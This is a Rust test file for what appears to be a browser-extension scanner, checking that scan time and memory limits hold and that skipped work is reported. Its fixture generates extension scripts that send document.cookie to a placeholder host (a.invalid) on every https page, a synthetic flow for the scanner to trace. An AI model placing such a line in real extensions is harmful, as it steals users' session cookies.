//! Bounds that a user sets on a scan: time, memory. What does not fit is left out and said.

use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::commands::crxhound;

/// A package with scripts that take long to follow: each function leads to the next one.
pub fn slow(folder: &Path, scripts: usize) -> PathBuf {
    let names: Vec<String> = (0..scripts).map(|script| format!("s{script}.js")).collect();
    let manifest = serde_json::json!({
        "manifest_version": 3, "name": "Slow", "version": "1",
        "content_scripts": [{"matches": ["https://*/*"], "js": names}],
    });
    fs::create_dir_all(folder).unwrap();
    fs::write(folder.join("manifest.json"), manifest.to_string()).unwrap();
    for (script, name) in names.iter().enumerate() {
        let mut text = String::new();
        for n in 0..3_000 {
            let next = (n * 7 + 1) % 3_000;
            writeln!(text, "function f{script}_{n}(a, b) {{ return f{script}_{next}(a.v{n} + b[{n}], a) + g(b); }}").unwrap();
        }
        writeln!(text, "fetch('https://a.invalid/?' + f{script}_0(document.title, document.cookie));").unwrap();
        fs::write(folder.join(name), text).unwrap();
    }
    folder.to_owned()
}

fn report(home: &Path, arguments: &[&str]) -> (Option<i32>, Value, String) {
    let output = crxhound(home).args(["inspect", "--format", "json"]).args(arguments).output().unwrap();
    let report = serde_json::from_slice(&output.stdout).unwrap_or_default();
    (output.status.code(), report, String::from_utf8_lossy(&output.stderr).into_owned())
}

fn messages(report: &Value) -> Vec<String> {
    let errors = report["errors"].as_array().cloned().unwrap_or_default();
    errors.iter().map(|error| format!("{}: {}", error["path"].as_str().unwrap(), error["message"].as_str().unwrap())).collect()
}

#[test]
fn the_time_holds_within_an_extension_and_between_them() {
    let home = tempfile::tempdir().unwrap();
    for package in ["one", "two"] {
        slow(&home.path().join(package), 60);
    }
    let (code, report, err) = report(home.path(), &["one", "two", "--max-seconds", "1", "--threads", "1"]);
    assert_eq!((code, &report["complete"]), (Some(2), &Value::Bool(false)), "{err}");
    let said = messages(&report);
    assert!(said.contains(&"two: not looked at: the time that --max-seconds allows was used up".to_owned()), "{said:?}");
    assert!(said.iter().any(|message| message.starts_with("one: not looked at whole: ")), "{said:?}");
    // What is known without following code is there all the same.
    assert_eq!(report["extensions"][0]["name"], "Slow");
    assert_eq!(report["extensions"].as_array().map(Vec::len), Some(1));
}

#[test]
fn no_time_at_all_is_an_answer_too() {
    let home = tempfile::tempdir().unwrap();
    slow(&home.path().join("one"), 1);
    let (code, report, _) = report(home.path(), &["one", "--max-seconds", "0", "--allow-incomplete"]);
    assert_eq!((code, &report["complete"], &report["summary"]["extensions"]), (Some(0), &false.into(), &0.into()));
}

/// The most memory that a process of ours has used, asked for while it runs.
#[cfg(target_os = "linux")]
fn peak_of(mut child: std::process::Child) -> u64 {
    let status = format!("/proc/{}/status", child.id());
    let mut peak = 0;
    while child.try_wait().unwrap().is_none() {
        let text = fs::read_to_string(&status).unwrap_or_default();
        let line = text.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap_or_default();
        peak = peak.max(line.trim().trim_end_matches(" kB").parse().unwrap_or(0) << 10);
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    peak
}

#[cfg(target_os = "linux")]
#[test]
fn memory_stays_below_the_bound_whatever_the_scripts_are_made_of() {
    const MB: usize = 1 << 20;
    let home = tempfile::tempdir().unwrap();
    let manifest = r#"{"manifest_version": 3, "name": "Large", "version": "1", "background": {"service_worker": "a00.js"}}"#;
    // Many middling files of what takes most for each byte, and one large one.
    for name in ["many", "large"] {
        let folder = home.path().join(name);
        fs::create_dir(&folder).unwrap();
        fs::write(folder.join("manifest.json"), manifest).unwrap();
        let (files, bytes) = if name == "many" { (10, MB / 2) } else { (1, 4 * MB) };
        for file in 0..files {
            fs::write(folder.join(format!("a{file:02}.js")), "({a,b});".repeat(bytes / 8)).unwrap();
        }
    }
    for package in ["many", "large"] {
        let arguments = ["inspect", package, "--max-memory", "256M", "--output", "bounded.json", "--quiet"];
        let child = crxhound(home.path()).args(arguments).spawn().unwrap();
        let peak = peak_of(child);
        assert!(peak > 30 << 20 && peak < 256 << 20, "{package}: {} MB", peak >> 20);
        let bounded: Value = serde_json::from_slice(&fs::read(home.path().join("bounded.json")).unwrap()).unwrap();
        let said = messages(&bounded);
        assert!(said.iter().any(|message| message.contains("hashed, but its text was not looked at")), "{package}: {said:?}");
        assert_eq!(bounded["extensions"][0]["name"], "Large");
    }
}
